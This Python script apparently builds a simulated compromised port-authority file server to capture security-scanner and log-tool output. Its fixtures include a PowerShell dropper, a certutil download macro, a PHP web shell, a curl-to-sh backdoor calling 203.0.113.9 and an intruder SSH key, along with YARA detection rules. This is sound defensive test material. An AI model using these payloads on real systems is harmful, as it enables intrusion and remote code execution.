"""Round 178, round 171's kinds on `saltmarsh`, a port authority's file server: a departmental share with EICAR test
files, script droppers and macro samples put in, scanned by clamd (a signature database written here) through
clamdscan, by `clamscan --debug` and by YARA rules of its own; AppArmor profiles of its gate daemons with syntax errors
put in; a Tripwire tree of its own, tampered with, and bad policies; auth logs and an audit.log of the real shape from
seeded generators of its own. The needles come from round 171's extractors, imported. Run through
capture_wide178.py."""

from __future__ import annotations

import base64
import hashlib
import io
import random
import tarfile
import time
import zipfile
from pathlib import Path

import capture_more as cm
from capture_more import run, write_tree
from capture_wide178 import add
from capture_wide171_host import (n_apparmor_error, n_apparmor_pre, n_audit_raw, n_aulast, n_ausearch_csv,
                                  n_ausearch_text, n_logwatch, n_tripwire_policy, n_tripwire_report)
from capture_wide171_scan import n_clamdscan, n_clamscan_debug, n_yara_strings

EICAR = r"X5O!P%@AP[4\PZX54(P^)7CC)7}$EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*"
DROPPER = ('var sh = new ActiveXObject("WScript.Shell");\n'
           'sh.Run("powershell -nop -w hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAKQ==", 0);\n')
MACRO = 'Sub AutoOpen()\n  Shell "cmd /c certutil -urlcache -split -f http://203.0.113.9/a.exe %TEMP%\\a.exe"\nEnd Sub\n'
RANSOM = "YOUR FILES HAVE BEEN ENCRYPTED\nsend 0.3 BTC to bc1qsaltmarshxxxxxxxxxxxxxxxxxxxxxx\nid: {id}\n"
WORDS = ["berth", "manifest", "pilotage", "tonnage", "dredging", "quay", "invoice", "crane", "tariff", "harbourmaster",
         "customs", "reefer", "bollard", "tide", "ballast", "lashing", "gangway", "demurrage", "payroll", "roster"]


def _text(r: random.Random, n: int) -> str:
    return "\n".join(" ".join(r.choice(WORDS) for _ in range(r.randint(5, 13))) for _ in range(n)) + "\n"


# ------------------------------------------------------------------ the share

def make_share(root: Path) -> None:
    r = random.Random(1781)
    sh = root / "share"
    depts = ["pilotage", "customs", "payroll", "engineering", "scans", "public"]
    for d in depts:
        (sh / d).mkdir(parents=True, exist_ok=True)
    for i in range(420):
        d = r.choice(depts)
        ext = r.choice(["txt", "csv", "md", "log", "ini", "xml"])
        body = _text(r, r.randint(2, 30))
        if ext == "ini" and r.random() < 0.3:
            body += f"[db]\nuser = svc_{d}\npassword = {r.choice(['Tide2024!', 'Quay#77', 'hunter2'])}\n"
        (sh / d / f"{d[:4]}-{i:04d}.{ext}").write_text(body)
    for i in range(44):  # infected drops, spread over the departments
        d = r.choice(depts)
        kind = r.choice(["eicar", "eicar", "dropper", "macro", "ransom", "zip"])
        name = sh / d / f"drop-{i:03d}"
        if kind == "eicar":
            name.with_suffix(r.choice([".com", ".pdf.com", ".txt"])).write_text(EICAR)
        elif kind == "dropper":
            name.with_suffix(".js").write_text("// " + _text(r, 1) + DROPPER)
        elif kind == "macro":
            name.with_suffix(".bas").write_text("Attribute VB_Name = \"Module1\"\n" + MACRO)
        elif kind == "ransom":
            name.with_suffix(".txt").write_text(RANSOM.format(id=r.randrange(16**12)))
        else:
            with zipfile.ZipFile(name.with_suffix(".zip"), "w") as z:
                z.writestr("scan/readme.txt", _text(r, 4))
                z.writestr("scan/invoice.pdf.js", DROPPER)
    # nested archives in scans/
    inner = io.BytesIO()
    with zipfile.ZipFile(inner, "w") as z:
        z.writestr("deep/eicar.com", EICAR)
    with zipfile.ZipFile(sh / "scans" / "nested-outer.zip", "w") as z:
        z.writestr("outer/inner.zip", inner.getvalue())
        z.writestr("outer/notes.txt", _text(r, 3))
    buf = io.BytesIO()
    with tarfile.open(fileobj=buf, mode="w:bz2") as t:
        for nm, body in (("quay/macro.bas", MACRO), ("quay/plan.txt", _text(r, 6))):
            data = body.encode()
            info = tarfile.TarInfo(nm)
            info.size = len(data)
            t.addfile(info, io.BytesIO(data))
    (sh / "engineering" / "quay-plans.tar.bz2").write_bytes(buf.getvalue())
    with zipfile.ZipFile(sh / "payroll" / "locked.zip", "w") as z:
        z.writestr("payroll/roster.csv", _text(r, 20))
    data = (sh / "payroll" / "locked.zip").read_bytes()
    (sh / "payroll" / "broken.zip").write_bytes(data[: len(data) // 2])
    (sh / "scans" / "big-scan.tif").write_bytes(random.Random(178).randbytes(3 * 1024 * 1024 + 512))
    (sh / "public" / "stale.lnk").symlink_to(sh / "public" / "moved-away.txt")
    (sh / "mailbox").mkdir(exist_ok=True)
    for i in range(60):
        badm = r.random() < 0.35
        att = base64.b64encode((EICAR if badm else _text(r, 2)).encode()).decode()
        fname = r.choice(["manifest.com", "berth-plan.js", "tariff.txt", "notice.com"])
        (sh / "mailbox" / f"m{i:04d}.eml").write_text(
            f"From: agent{r.randint(1, 50)}@shipping.example.invalid\nTo: desk@saltmarsh.example.invalid\n"
            f"Subject: vessel {r.randint(1000, 9999)}\nMIME-Version: 1.0\nContent-Type: multipart/mixed; boundary=\"x\"\n\n"
            f"--x\nContent-Type: text/plain\n\n{_text(r, 2)}\n--x\nContent-Type: application/octet-stream; name=\"{fname}\"\n"
            f"Content-Transfer-Encoding: base64\nContent-Disposition: attachment; filename=\"{fname}\"\n\n{att}\n--x--\n")


def make_db(db: Path) -> None:
    db.mkdir(parents=True, exist_ok=True)
    md5 = hashlib.md5(EICAR.encode()).hexdigest()
    hx = lambda s: s.encode().hex()  # noqa: E731
    (db / "saltmarsh.hdb").write_text(f"{md5}:{len(EICAR)}:Saltmarsh.Eicar.Hash\n")
    (db / "saltmarsh.ndb").write_text(
        f"Saltmarsh.Eicar.Body-2:0:*:{hx('EICAR-STANDARD-ANTIVIRUS')}\n"
        f"Saltmarsh.JS.Dropper.WScript-1:0:*:{hx('WScript.Shell')}\n"
        f"Saltmarsh.VBA.AutoOpen.Certutil-1:0:*:{hx('certutil -urlcache')}\n"
        f"Saltmarsh.Ransom.Note-1:0:*:{hx('YOUR FILES HAVE BEEN ENCRYPTED')}\n")


CLAMD_CONF = """LocalSocket {sock}
FixStaleSocket yes
DatabaseDirectory {db}
Foreground yes
LogFile {log}
PidFile {pid}
User root
TemporaryDirectory {tmp}
ScanArchive yes
MaxFileSize 2M
MaxRecursion 2
AlertExceedsMax yes
AlertBrokenExecutables yes
"""


def cap_clamav(tmp: Path) -> None:
    root = tmp / "fs02"
    make_share(root)
    db = tmp / "clamdb"
    make_db(db)
    (tmp / "clamtmp").mkdir(exist_ok=True)
    conf, sock = tmp / "clamd.conf", tmp / "clamd.sock"
    conf.write_text(CLAMD_CONF.format(sock=sock, db=db, log=tmp / "clamd.log", pid=tmp / "clamd.pid",
                                      tmp=tmp / "clamtmp"))
    cm.start(["nice", "clamd", "-c", str(conf)], cwd=tmp)
    for _ in range(120):
        if sock.exists():
            break
        time.sleep(0.5)
    time.sleep(1)
    cc = f"--config-file={conf}"
    add("clamdscan-share", "clamdscan --multiscan --fdpass /srv/share/ ; echo EXIT=$?",
        run(f"clamdscan {cc} --multiscan --fdpass share/ ; echo EXIT=$?", cwd=root), n_clamdscan)
    add("clamdscan-verbose-grep", "clamdscan -v --fdpass share/mailbox share/scans share/payroll 2>&1 | grep -v ': OK$'",
        run(f"clamdscan {cc} -v --fdpass share/mailbox share/scans share/payroll 2>&1 | grep -v ': OK$'", cwd=root),
        n_clamdscan)
    d = f"-d {db}"
    add("clamscan-debug-scans", "clamscan --debug -d clamdb -r share/scans 2>&1 | tail -n 250",
        run(f"clamscan --debug {d} -r share/scans 2>&1 | tail -n 250", cwd=root), n_clamscan_debug)
    add("clamscan-debug-grep", "clamscan --debug -d clamdb -r share/engineering share/payroll 2>&1 | "
        "grep -E 'FOUND|Error|Warning|matched|Scanned|Infected|Known|Engine|zip|bzip'",
        run(f"clamscan --debug {d} -r share/engineering share/payroll 2>&1 | "
            "grep -E 'FOUND|Error|Warning|matched|Scanned|Infected|Known|Engine|zip|bzip'", cwd=root),
        n_clamscan_debug)


YARA_RULES = r'''
import "math"

rule Eicar_Marker : test
{
    meta:
        owner = "saltmarsh-soc"
        level = "info"
    strings:
        $a = "EICAR-STANDARD-ANTIVIRUS-TEST-FILE"
    condition:
        $a
}

rule JS_WScript_Dropper : dropper js
{
    meta:
        owner = "saltmarsh-soc"
        level = "critical"
        case = "IR-2026-118"
    strings:
        $ax = "ActiveXObject" ascii
        $ws = "WScript.Shell" nocase
        $enc = /powershell [^\n]{0,40}-enc [A-Za-z0-9+\/=]{16,}/
    condition:
        $ws and ($ax or $enc)
}

rule VBA_AutoOpen_Download : macro
{
    meta:
        owner = "saltmarsh-soc"
        level = "high"
    strings:
        $auto = "AutoOpen" nocase
        $cu = "certutil" nocase
        $url = /https?:\/\/[0-9.]{7,15}\//
    condition:
        $auto and ($cu or $url)
}

rule Ransom_Note_Text : ransom
{
    meta:
        level = "critical"
    strings:
        $t = "YOUR FILES HAVE BEEN ENCRYPTED"
        $btc = /bc1q[a-z0-9]{20,}/
    condition:
        all of them
}

rule Plaintext_Password_Ini : creds
{
    meta:
        level = "medium"
        note = "service passwords in ini files"
    strings:
        $p = /password = \S+/
    condition:
        $p
}

rule High_Entropy_Blob : packed
{
    meta:
        level = "low"
    condition:
        filesize > 1MB and math.entropy(0, 4096) > 7.5
}
'''


def cap_yara(tmp: Path) -> None:
    root = tmp / "fs02"
    if not (root / "share").exists():
        make_share(root)
    (tmp / "soc.yar").write_text(YARA_RULES)
    add("yara-share-tail", "yara -s -m -r soc.yar share/ 2>&1 | tail -n 300",
        run(f"yara -s -m -r {tmp}/soc.yar share/ 2>&1 | tail -n 300", cwd=root), n_yara_strings)
    add("yara-tags", "yara -s -m -t dropper -t macro -t ransom -r soc.yar share/ ; echo EXIT=$?",
        run(f"yara -s -m -t dropper -t macro -t ransom -r {tmp}/soc.yar share/ ; echo EXIT=$?", cwd=root),
        n_yara_strings)


# ------------------------------------------------------------------ AppArmor

GOOD = {
    "usr.sbin.gatekeeperd": """
#include <tunables/global>

profile gatekeeperd /usr/sbin/gatekeeperd flags=(attach_disconnected) {
  #include <abstractions/base>
  #include <abstractions/nameservice>
  #include <abstractions/ssl_certs>

  capability net_bind_service,
  capability dac_read_search,
  network inet stream,
  network unix stream,

  /etc/gatekeeper/** r,
  /var/lib/gatekeeper/** rwk,
  /run/gatekeeper.sock rw,
  /usr/lib/gatekeeper/plugins/*.so mr,
  /usr/bin/ocr-plate Cx -> ocr,
  /usr/sbin/sendmail Px,
  deny /etc/shadow r,
  deny @{HOME}/** rwx,
  audit /etc/gatekeeper/secrets/* r,

  profile ocr {
    #include <abstractions/base>
    /usr/bin/ocr-plate mr,
    /var/lib/gatekeeper/frames/** r,
    deny network,
  }

  ^barrier {
    /dev/ttyUSB* rw,
    capability sys_tty_config,
  }
}
""",
}

BAD = {
    "usr.sbin.craneq": """
#include <tunables/global>
/usr/sbin/craneq {
  #include <abstractions/base>
  /srv/crane/** rw,
  /etc/craneq.conf r
  capability setuid,
}
""",
    "usr.sbin.tidesync": """
#include <tunables/global>
/usr/sbin/tidesync {
  #include <abstractions/base>
  #include <abstractions/tide-feeds>
  /var/lib/tidesync/** rw,
}
""",
    "usr.bin.berthctl": """
#include <tunables/global>
profile berthctl /usr/bin/berthctl {
  #include <abstractions/base>
  capability net_rawio_extra,
  /etc/berth/** r,
}
""",
    "usr.bin.manifestd": """
#include <tunables/global>
/usr/bin/manifestd {
  #include <abstractions/base>
  /srv/manifests/** rwq,
}
""",
    "usr.sbin.pilotlog": """
#include <tunables/global>
/usr/sbin/pilotlog {
  #include <abstractions/base>
  /var/log/pilot/*.log w,
  ^audit_hat {
    /var/log/pilot/audit r,
  }
""",
    "usr.sbin.reeferd": """
#include <tunables/global>
/usr/sbin/reeferd {
  #include <abstractions/base>
  @{REEFER_DIR}/** r,
  network bluetooth stream,
}
""",
    "usr.sbin.customsgw": """
#include <tunables/global>
/usr/sbin/customsgw {
  #include <abstractions/base>
  /usr/bin/curl px -> ,
  /etc/customs/ r,
}
""",
}


def cap_apparmor(tmp: Path) -> None:
    d = tmp / "apparmor"
    write_tree(d / "good", GOOD)
    write_tree(d / "bad", BAD)
    r = random.Random(1782)
    gates = {}
    for i in range(40):
        rules = [f"  /srv/gate{i:02d}/{r.choice(['frames', 'plates', 'queue', 'logs'])}/** {r.choice(['r', 'rw', 'rwk', 'rl'])},"
                 for _ in range(r.randint(3, 8))]
        if i in (3, 9, 14, 22, 27, 35):
            rules.insert(1, {3: "  /srv/gate03/cam rw", 9: "  capability sys_moduel,",
                             14: "  network inet7 stream,", 22: "  /usr/bin/ffmpeg ix ix,",
                             27: "  #include <abstractions/gate-cams>", 35: "  deny /srv/gate35/keys/** rwx\n  }"}[i])
        gates[f"usr.lib.gate.cam{i:02d}"] = ("#include <tunables/global>\n" + f"/usr/lib/gate/cam{i:02d} {{\n"
                                             "  #include <abstractions/base>\n" + "\n".join(rules) + "\n}\n")
    write_tree(d / "gates", gates)
    loop = 'for f in bad/* gates/*; do echo "== $f"; apparmor_parser -Q -K "$f" 2>&1 | grep -v "^Cache"; echo "rc=$?"; done'
    add("apparmor-bad-gates", loop, run(loop, cwd=d), n_apparmor_error)
    add("apparmor-bad-all", "apparmor_parser -Q -K bad/* ; echo EXIT=$?",
        run("apparmor_parser -Q -K bad/* 2>&1; echo EXIT=$?", cwd=d), n_apparmor_error)
    add("apparmor-pre-gatekeeperd", "apparmor_parser -p good/usr.sbin.gatekeeperd 2>/dev/null | grep -v '^ *#' | grep -v '^\\s*$'",
        run("apparmor_parser -p good/usr.sbin.gatekeeperd 2>/dev/null | grep -v '^ *#' | grep -v '^\\s*$'", cwd=d),
        n_apparmor_pre)


# ------------------------------------------------------------------ Tripwire

TWCFG = """ROOT          =/usr/sbin
POLFILE       ={d}/tw.pol
DBFILE        ={d}/fs02.twd
REPORTFILE    ={d}/fs02.twr
SITEKEYFILE   ={d}/site.key
LOCALKEYFILE  ={d}/fs02-local.key
EDITOR        =/bin/vi
LATEPROMPTING =false
LOOSEDIRECTORYCHECKING =true
MAILNOVIOLATIONS =false
EMAILREPORTLEVEL =3
REPORTLEVEL   =3
SYSLOGREPORTING =false
MAILMETHOD    =SENDMAIL
MAILPROGRAM   =/bin/true
"""

TWPOL = """@@section GLOBAL
R = {site} ;

@@section FS
(rulename = "Gate binaries", severity = 100)
{{
  $(R)/opt/gate/bin -> $(ReadOnly) ;
  $(R)/opt/gate/lib -> $(ReadOnly) ;
}}
(rulename = "Gate configuration", severity = 90, emailto = soc@saltmarsh.example.invalid)
{{
  $(R)/etc/gate -> $(IgnoreNone) -SHa ;
  $(R)/etc/ssh -> $(IgnoreNone) -SHa ;
}}
(rulename = "Systemd units", severity = 80)
{{
  $(R)/etc/systemd/system -> $(ReadOnly) ;
}}
(rulename = "Portal content", severity = 50)
{{
  $(R)/srv/portal -> $(ReadOnly) ;
}}
(rulename = "Spool", severity = 10)
{{
  $(R)/var/spool/gate -> $(Growing) ;
}}
(rulename = "Keys", severity = 100)
{{
  $(R)/etc/gate/keys -> $(IgnoreNone) ;
  $(R)/root/.ssh -> $(IgnoreNone) ;
}}
"""

BAD_POL = {
    "01-unknown-mask.txt": '@@section FS\n(rulename = "Gate", severity = 90)\n{\n  /opt/gate -> $(ReadOnlyy) ;\n}\n',
    "02-no-semicolon.txt": '@@section FS\n(rulename = "Etc", severity = 80)\n{\n  /etc/gate -> $(IgnoreNone) -SHa\n  /etc/ssh -> $(ReadOnly) ;\n}\n',
    "03-bad-severity.txt": '@@section FS\n(rulename = "Units", severity = high)\n{\n  /etc/systemd -> $(ReadOnly) ;\n}\n',
    "04-stray-brace.txt": '@@section FS\n(rulename = "Spool", severity = 10)\n{\n  /var/spool -> $(Growing) ;\n}\n}\n',
    "05-bad-flag.txt": '@@section FS\n(rulename = "Keys", severity = 100)\n{\n  /etc/gate/keys -> +pinugXsZ ;\n}\n',
    "06-undefined-var.txt": '@@section FS\n(rulename = "Portal", severity = 50)\n{\n  $(PORTAL_ROOT)/srv -> $(ReadOnly) ;\n}\n',
}


def cap_tripwire(tmp: Path) -> None:
    d = tmp / "tripwire"
    site = d / "root"
    d.mkdir(parents=True, exist_ok=True)
    r = random.Random(1783)
    files = {}
    for i in range(90):
        files[f"srv/portal/{r.choice(['berths', 'tariffs', 'notices', 'static'])}/p{i:03d}.html"] = f"<p>{_text(r, 2)}</p>\n"
    for i in range(14):
        files[f"opt/gate/bin/gate-{i:02d}"] = f"#!/bin/sh\nexec /opt/gate/lib/core {i}\n"
    for i in range(6):
        files[f"opt/gate/lib/mod{i}.so"] = f"ELF mod {i} {r.random()}\n"
    for n in ("gate.yaml", "cameras.yaml", "plates.allow", "plates.deny", "keys/api.pem", "keys/hmac.key"):
        files[f"etc/gate/{n}"] = f"# {n}\nv={r.randint(1, 999)}\n"
    files["etc/ssh/sshd_config"] = "PermitRootLogin no\nPasswordAuthentication no\n"
    for n in ("gate.service", "ocr.service", "barrier.service", "portal.service"):
        files[f"etc/systemd/system/{n}"] = f"[Service]\nExecStart=/opt/gate/bin/gate-00 {n}\n"
    files["root/.ssh/authorized_keys"] = "ssh-ed25519 AAAAC3Nz ops@saltmarsh\n"
    for i in range(20):
        files[f"var/spool/gate/q{i:02d}.job"] = f"job {i}\n"
    write_tree(site, files)
    run("twadmin --generate-keys -S site.key -Q sitepass178 && "
        "twadmin --generate-keys -L fs02-local.key -P localpass178", cwd=d)
    (d / "twcfg.txt").write_text(TWCFG.format(d=d))
    (d / "twpol.txt").write_text(TWPOL.format(site=site))
    run("twadmin --create-cfgfile -c tw.cfg -S site.key -Q sitepass178 twcfg.txt", cwd=d)
    run("twadmin --create-polfile -c tw.cfg -S site.key -Q sitepass178 twpol.txt", cwd=d)
    run("tripwire --init -c tw.cfg -P localpass178", cwd=d)
    # the tampering
    for p in sorted((site / "srv/portal").rglob("*.html"))[::5]:
        p.write_text(p.read_text() + '<iframe src="//203.0.113.9/k" width=0></iframe>\n')
    for p in sorted((site / "srv/portal/notices").glob("*.html"))[:4]:
        p.unlink()
    (site / "srv/portal/static/.x.php").write_text("<?php passthru($_REQUEST['q']); ?>\n")
    (site / "opt/gate/bin/gate-07").write_text("#!/bin/sh\ncurl -s http://203.0.113.9/g | sh\n")
    (site / "opt/gate/lib/mod3.so").chmod(0o777)
    (site / "opt/gate/bin/gate-13").unlink()
    (site / "etc/gate/plates.allow").write_text("# plates.allow\nv=1\nANY\n")
    (site / "etc/gate/keys/hmac.key").write_text("rotated?\n")
    (site / "etc/ssh/sshd_config").write_text("PermitRootLogin yes\nPasswordAuthentication yes\n")
    (site / "etc/systemd/system/updater.service").write_text("[Service]\nExecStart=/tmp/.u\n")
    with open(site / "root/.ssh/authorized_keys", "a") as f:
        f.write("ssh-rsa AAAAB3Nza intruder@203.0.113.9\n")
    for i in range(20, 26):
        (site / f"var/spool/gate/q{i:02d}.job").write_text(f"job {i}\n")
    add("tripwire-check-fs02", "tripwire --check ; echo EXIT=$?",
        run("tripwire --check -c tw.cfg 2>&1; echo EXIT=$?", cwd=d), n_tripwire_report)
    run("tripwire --check -c tw.cfg -r full.twr", cwd=d)
    add("tripwire-print-grep", "twprint --print-report --report-level 4 -r fs02-20261202.twr | grep -v '^ *$' | head -n 300",
        run("twprint --print-report --report-level 4 -c tw.cfg -r full.twr | grep -v '^ *$' | head -n 300", cwd=d),
        n_tripwire_report)
    write_tree(d / "pol", BAD_POL)
    loop = ('for p in pol/*.txt; do echo "== $p"; twadmin --create-polfile -c tw.cfg -S site.key -Q "$PASS" "$p"; '
            'echo "rc=$?"; done')
    add("tripwire-policy-errors", loop, run(loop.replace('"$PASS"', "sitepass178") + " 2>&1", cwd=d),
        n_tripwire_policy)


# ------------------------------------------------------------------ logwatch

STAFF = {"harbourmaster": 1100, "pilot1": 1101, "pilot2": 1102, "ops": 1103, "svc_backup": 1104, "auditor": 1105}


def auth_log(r: random.Random, host: str, day0: int, days: int, waves: int) -> str:
    ev: list[tuple[int, str]] = []
    pid = [4100]

    def at(t: int, prog: str, msg: str) -> None:
        pid[0] += r.randint(1, 25)
        ev.append((t, f"{prog}[{pid[0]}]: {msg}"))

    span = days * 86400
    attackers = [f"203.0.113.{r.randint(2, 250)}" for _ in range(4)] + ["198.51.100.66"]
    for _ in range(waves):
        ip = r.choice(attackers[:3] * 4 + attackers[3:])
        t = r.randint(0, span)
        u = r.choice(["root", "root", "admin", "pilot", "ubuntu", "ftpuser", "git", "oracle", "harbour"])
        port = r.randint(20000, 65000)
        if u in ("root",):
            at(t, "sshd", f"Failed password for root from {ip} port {port} ssh2")
        else:
            at(t, "sshd", f"Invalid user {u} from {ip} port {port}")
            at(t + 1, "sshd", f"Failed password for invalid user {u} from {ip} port {port} ssh2")
        at(t + 2, "sshd", f"Connection closed by {'authenticating user root' if u == 'root' else 'invalid user ' + u} {ip} port {port} [preauth]")
    for _ in range(55):
        u = r.choice(list(STAFF))
        ip = {"svc_backup": "10.8.0.20", "auditor": "10.8.0.31"}.get(u, f"10.8.1.{r.randint(10, 60)}")
        t = r.randint(0, span)
        how = "publickey" if u.startswith("svc") or r.random() < 0.6 else "password"
        at(t, "sshd", f"Accepted {how} for {u} from {ip} port {r.randint(20000, 65000)} ssh2")
        at(t, "sshd", f"pam_unix(sshd:session): session opened for user {u}(uid={STAFF[u]}) by (uid=0)")
        at(t + r.randint(60, 9000), "sshd", f"pam_unix(sshd:session): session closed for user {u}")
    for _ in range(25):
        u = r.choice(["harbourmaster", "ops"])
        cmd = r.choice(["/usr/bin/systemctl restart gatekeeperd", "/usr/bin/journalctl -u tidesync",
                        "/usr/sbin/aureport --failed", "/usr/bin/vi /etc/gate/plates.allow"])
        at(r.randint(0, span), "sudo", f"    {u} : TTY=pts/{r.randint(0, 5)} ; PWD=/home/{u} ; USER=root ; COMMAND={cmd}")
    at(40000, "sudo", "  pilot2 : user NOT in sudoers ; TTY=pts/2 ; PWD=/home/pilot2 ; USER=root ; COMMAND=/bin/bash")
    at(41000, "sshd", "error: kex_exchange_identification: Connection closed by remote host")
    at(52000, "sshd", "Received signal 15; terminating.")
    at(52010, "sshd", "Server listening on 0.0.0.0 port 22.")
    ev.sort()
    return "".join(time.strftime("%b %e %H:%M:%S", time.gmtime(day0 + t)) + f" {host} {m}\n" for t, m in ev)


def cap_logwatch(tmp: Path) -> None:
    d = tmp / "logwatch"
    logs = d / "log"
    logs.mkdir(parents=True, exist_ok=True)
    r = random.Random(1784)
    day0 = 1764633600  # 2025-12-02 00:00 UTC
    (logs / "auth.log").write_text(auth_log(r, "fs02", day0, 3, 700))
    lw = f"logwatch --logdir {logs} --range All --output stdout --hostname fs02"
    add("logwatch-sshd-high", "logwatch --service sshd --range All --detail High --output stdout | head -n 150",
        run(f"{lw} --service sshd --detail High | head -n 150", cwd=d), n_logwatch)
    add("logwatch-sudo-low", "logwatch --service sshd --service sudo --range All --detail Low --output stdout",
        run(f"{lw} --service sshd --service sudo --detail Low", cwd=d), n_logwatch)


# ------------------------------------------------------------------ the audit log

UNSET = "4294967295"


def audit_log(r: random.Random, t0: int, hours: int) -> str:
    recs: list[tuple[float, str]] = []
    serial = [52000]
    hx = lambda s: s.encode().hex().upper()  # noqa: E731
    pid = [3000]

    def npid() -> int:
        pid[0] += r.randint(2, 70)
        return pid[0]

    def ev(t: float, parts: list[tuple[str, str]]) -> None:
        serial[0] += 1
        for typ, body in parts:
            recs.append((t, f"type={typ} msg=audit({t:.3f}:{serial[0]}): {body}"))

    ev(t0, [("DAEMON_START", f"op=start ver=3.0.9 format=enriched kernel=6.1.0-28-amd64 auid={UNSET} pid=380 uid=0 ses={UNSET} res=success")])
    for svc in ("gatekeeperd", "tidesync", "craneq", "sshd", "chronyd"):
        ok = svc != "craneq"
        ev(t0 + 2 + r.random(), [("SERVICE_START", f"pid=1 uid=0 auid={UNSET} ses={UNSET} msg='unit={svc} comm=\"systemd\" exe=\"/usr/lib/systemd/systemd\" hostname=? addr=? terminal=? res={'success' if ok else 'failed'}'")])
    span = hours * 3600
    ses = [200]
    for _ in range(30):
        u = r.choice(list(STAFF))
        uid = STAFF[u]
        ip = "10.8.0.20" if u == "svc_backup" else f"10.8.1.{r.randint(10, 60)}"
        t = t0 + 120 + r.randint(0, span - 9000)
        p = npid()
        ses[0] += 1
        s_ = ses[0]
        pam = f"acct=\"{u}\" exe=\"/usr/sbin/sshd\" hostname={ip} addr={ip} terminal=ssh res=success'"
        ev(t, [("USER_AUTH", f"pid={p} uid=0 auid={UNSET} ses={UNSET} msg='op=PAM:authentication grantors=pam_unix {pam}")])
        ev(t + .01, [("USER_ACCT", f"pid={p} uid=0 auid={UNSET} ses={UNSET} msg='op=PAM:accounting grantors=pam_unix {pam}")])
        ev(t + .03, [("LOGIN", f"pid={p} uid=0 subj=unconfined old-auid={UNSET} auid={uid} tty=(none) old-ses={UNSET} ses={s_} res=1")])
        ev(t + .04, [("USER_START", f"pid={p} uid=0 auid={uid} ses={s_} msg='op=PAM:session_open grantors=pam_unix {pam}")])
        ev(t + .05, [("USER_LOGIN", f"pid={p} uid=0 auid={uid} ses={s_} msg='op=login id={uid} exe=\"/usr/sbin/sshd\" hostname=? addr={ip} terminal=/dev/pts/{r.randint(0, 6)} res=success'")])
        if u in ("harbourmaster", "ops") and r.random() < 0.7:
            cmd = r.choice(["/usr/bin/systemctl restart gatekeeperd", "/usr/bin/vi /etc/gate/plates.allow",
                            "/usr/sbin/auditctl -l"])
            ev(t + r.randint(20, 900), [("USER_CMD", f"pid={npid()} uid={uid} auid={uid} ses={s_} msg='cwd=\"/home/{u}\" cmd={hx(cmd)} exe=\"/usr/bin/sudo\" terminal=pts/1 res=success'")])
        if r.random() < 0.8:
            te = t + r.randint(300, 8000)
            ev(te, [("USER_END", f"pid={p} uid=0 auid={uid} ses={s_} msg='op=PAM:session_close grantors=pam_unix {pam}")])
            ev(te + .01, [("CRED_DISP", f"pid={p} uid=0 auid={uid} ses={s_} msg='op=PAM:setcred grantors=pam_unix {pam}")])
    for k in range(40):  # a spray from two addresses
        ip = r.choice(["203.0.113.77", "203.0.113.78"])
        t = t0 + span // 2 + k * r.uniform(2, 6)
        acct = r.choice(["root", "(invalid user)", "(invalid user)"])
        p = npid()
        ev(t, [("USER_AUTH", f"pid={p} uid=0 auid={UNSET} ses={UNSET} msg='op=PAM:authentication grantors=? acct=\"{acct}\" exe=\"/usr/sbin/sshd\" hostname={ip} addr={ip} terminal=ssh res=failed'")])
    for _ in range(60):
        t = t0 + r.randint(200, span)
        u, uid = r.choice(list(STAFF.items()))
        path, key, ok = r.choice([("/etc/gate/plates.allow", "gatecfg", True), ("/etc/gate/keys/hmac.key", "gatekeys", False),
                                  ("/etc/sudoers", "privesc", True), ("/etc/localtime", "time-change", True),
                                  ("/var/lib/gatekeeper/db.sqlite", "gatedb", True)])
        ok = ok and r.random() > 0.04
        comm = r.choice(["cat", "vim", "python3", "sqlite3", "cp"])
        p = npid()
        ev(t, [("SYSCALL", f"arch=c000003e syscall={r.choice([2, 257, 82])} success={'yes' if ok else 'no'} exit={r.randint(3, 8) if ok else -13} a0=ffffff9c a1=7ffe{r.randrange(16**8):08x} a2=0 a3=0 items=1 ppid={p - 2} pid={p} auid={uid} uid={uid} gid={uid} euid={uid} suid={uid} fsuid={uid} egid={uid} sgid={uid} fsgid={uid} tty=pts1 ses={r.randint(201, 230)} comm=\"{comm}\" exe=\"/usr/bin/{comm}\" subj=unconfined key=\"{key}\""),
               ("CWD", f"cwd=\"/home/{u}\""),
               ("PATH", f"item=0 name=\"{path}\" inode={r.randint(200000, 900000)} dev=fd:00 mode=0100600 ouid=0 ogid=0 rdev=00:00 nametype=NORMAL cap_fp=0 cap_fi=0 cap_fe=0 cap_fver=0 cap_frootid=0"),
               ("PROCTITLE", f"proctitle={hx(comm + chr(0) + path)}")])
    ev(t0 + span * .6, [("SYSCALL", f"arch=c000003e syscall=175 success=yes exit=0 a0=55d0 a1=1f8e0 a2=55d1 a3=0 items=0 ppid=1 pid={npid()} auid=1103 uid=0 gid=0 euid=0 suid=0 fsuid=0 egid=0 sgid=0 fsgid=0 tty=pts3 ses=211 comm=\"insmod\" exe=\"/usr/bin/kmod\" subj=unconfined key=\"modules\""),
                        ("KERN_MODULE", "name=\"hid_quay\"")])
    for _ in range(4):
        ev(t0 + r.randint(100, span), [("AVC", f"apparmor=\"DENIED\" operation=\"exec\" profile=\"gatekeeperd\" name=\"/usr/bin/curl\" pid={npid()} comm=\"gatekeeperd\" requested_mask=\"x\" denied_mask=\"x\" fsuid=0 ouid=0")])
    ev(t0 + span - 300, [("ANOM_ABEND", f"auid={UNSET} uid=0 gid=0 ses={UNSET} subj=unconfined pid={npid()} comm=\"craneq\" exe=\"/usr/sbin/craneq\" sig=6 res=1")])
    recs.sort(key=lambda x: x[0])
    return "".join(ln + "\n" for _, ln in recs)


def cap_audit(tmp: Path) -> None:
    d = tmp / "audit"
    d.mkdir(parents=True, exist_ok=True)
    t0 = 1764633600.0
    (d / "audit.log").write_text(audit_log(random.Random(1785), t0, 22))
    (d / "audit.log.1").write_text(audit_log(random.Random(1786), t0 - 86400, 22))
    a = lambda cmd: run(cmd, cwd=d, env={"TZ": "UTC"})  # noqa: E731
    add("aulast-fs02", "aulast -f /var/log/audit/audit.log", a("aulast -f audit.log"), n_aulast)
    add("aulast-both-echo", "cat audit.log.1 audit.log | aulast --stdin ; echo EXIT=$?",
        a("cat audit.log.1 audit.log | aulast --stdin; echo EXIT=$?"), n_aulast)
    add("audit-raw-grep", "grep -E 'res=failed|success=no|DENIED|ANOM|KERN_MODULE' -A2 /var/log/audit/audit.log | head -n 150",
        a("grep -E 'res=failed|success=no|DENIED|ANOM|KERN_MODULE' -A2 audit.log | head -n 150"), n_audit_raw)
